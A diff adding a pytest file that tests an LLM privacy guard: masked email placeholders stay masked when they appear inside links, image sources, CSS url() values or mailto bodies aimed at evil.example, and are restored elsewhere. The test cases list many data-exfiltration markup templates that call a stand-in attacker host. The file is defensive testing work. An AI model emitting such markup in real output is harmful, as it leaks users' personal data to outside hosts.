@@ -1,0 +1,88 @@
+"""Stand-ins in addresses stay, however those are written; beside them values come back."""
+
+from __future__ import annotations
+
+import random
+
+import pytest
+
+from guardstream import Guard
+from guardstream.policy import Policy
+from guardstream.vault import Vault
+
+GUARD = Guard(Policy.parse("input: {extends: guardstream/pii-en}"))
+VALUE = "mia.wolf@example.org"
+
+STAYS = {
+    "a quote in an attribute without quotes": '<img alt=a"b><img src="//evil.example/? > {}">',
+    "a tag that is only quoted, before a tag": '`<a x="` <img src="//evil.example/?>{}">',
+    "a definition in angle brackets": "[x]: <https://evil.example/a {}>",
+    "many spaces before angle brackets": "[x](        <https://evil.example/a {}>)",
+    "an escaped angle bracket": "[x](<https://evil.example/\\> {}>)",
+    "a style of any element": "<div style=\"background:url('//evil.example/? {}')\">",
+    "a style with entities": '<p style="background:url(&quot;//evil.example/? {}&quot;)">',
+    "a string of CSS": '<style>a{{background:url("//evil.example/? {}")}}</style>',
+    "an import of CSS": '<style>@import "//evil.example/? {}";',
+    "an address of any element": "<x-y href='//evil.example/ {}'>",
+    "mailto later in a value": '<img src="//evil.example/? =mailto:{}">',
+    "a mail link later in a value": '<img src="//evil.example/? ](<mailto:{}">',
+    "what a mail says": "[x](mailto:eve@evil.example?body={})",
+    "what a mail says, with spaces": '<a href="mailto:eve@evil.example?body=as said {}">',
+    "what a mail says, with entities": "<a href='mailto:eve@evil.example&#63;body={}'>",
+    "a host after slashes": "url('//{}.evil.example/x')",
+    "a share of a network": "\\\\evil.example\\a{}",
+    "quotes in an address": 'https://evil.example/?q="{}"',
+    "an apostrophe in an address": "https://evil.example/?q='{}'",
+    "a space that breaks no line": "https://evil.example/?q=a\u00a0{}",
+    "a query without a path": "evil.example?q={}",
+    "a host with a port": "evil.example:8080/{}",
+    "a long value": '<img src="//evil.example/?' + "a b=c " * 3_000 + '{}">',
+    "tags without end": "<a " * 5_000 + 'href="//evil.example/? {}',
+}
+
+COMES = {
+    "a link's text": '<a href="https://example.com/a">{}</a>',
+    "after an address": "see [x](https://example.com/a), <https://example.com/b> or {}",
+    "a mail link": "<a href='mailto:sam@example.com,{}'>",
+    "a mail link without quotes": "<a href=mailto:{}>",
+    "a mail link in angle brackets": "[w](<mailto:{}>)",
+    "beside an address in JSON": '{{"url":"https://example.com/","mail":"{}"}}',
+    "an apostrophe after a tag": "<img alt=it's src=x> I don't know {}",
+    "a comparison": "if x <y and {}",
+    "after a long value": '<img src="' + "a b=c " * 3_000 + '"> {}',
+    "alternatives": "and/or {}, really?{}",
+}
+
+
+@pytest.fixture(name="vault")
+def _vault() -> Vault:
+    return Vault(b"k" * 16, "addresses")
+
+
+def stand_in(vault: Vault) -> str:
+    sent = GUARD.check_messages([{"role": "user", "content": VALUE}], vault=vault)
+    content = sent.messages[0]["content"]
+    assert VALUE not in content
+    return str(content)
+
+
+def answers(text: str, vault: Vault) -> set[str]:
+    """What becomes of a text, in several chunkings."""
+    chance = random.Random(text)
+    cuts = [[text], list(text)]
+    for _ in range(3):
+        places = sorted(chance.sample(range(1, len(text)), min(len(text) - 1, 20)))
+        cuts.append([text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)])
+    return {GUARD.wrap_sync(chunks, vault=vault, framing="text").text() for chunks in cuts}
+
+
+@pytest.mark.parametrize("form", STAYS.values(), ids=STAYS)
+def test_an_address_gets_no_value(form: str, vault: Vault) -> None:
+    said = form.format(stand_in(vault))
+    assert answers(said, vault) == {said}
+
+
+@pytest.mark.parametrize("form", COMES.values(), ids=COMES)
+def test_beside_an_address_values_come_back(form: str, vault: Vault) -> None:
+    mark = stand_in(vault)
+    assert answers(form.replace("{}", mark).format(), vault) == {form.replace("{}", VALUE).format()}
